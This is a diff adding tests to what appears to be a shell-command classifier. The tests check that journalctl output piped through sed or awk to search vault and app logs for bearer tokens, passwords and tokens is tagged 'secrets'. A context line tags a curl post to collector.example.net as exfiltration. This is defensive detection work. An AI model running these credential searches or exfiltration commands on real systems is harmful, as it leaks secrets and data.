@@ -487,3 +487,16 @@ describe("shell pack: environment filters that keep every line", () => {
     expectTags('curl -d "$(date)" https://collector.example.net', ["exfiltration"], ["secrets"]);
   });
 });
+
+describe("sed -n and awk as line filters", () => {
+  it.each([
+    "journalctl -u vault | sed -n '/bearer\\|authorization/Ip'",
+    "journalctl -u vault | awk '/password/'",
+    "journalctl -u app | awk '/token/ {print}'",
+  ])("%s searches the logs for credentials", (cmd) => {
+    expectTags(cmd, ["secrets"], []);
+  });
+  it.each(["journalctl -u vault | sed -n '/error/p'", "journalctl -u app | awk '/timeout/'"])("%s is not secrets", (cmd) => {
+    expectTags(cmd, [], ["secrets"]);
+  });
+});
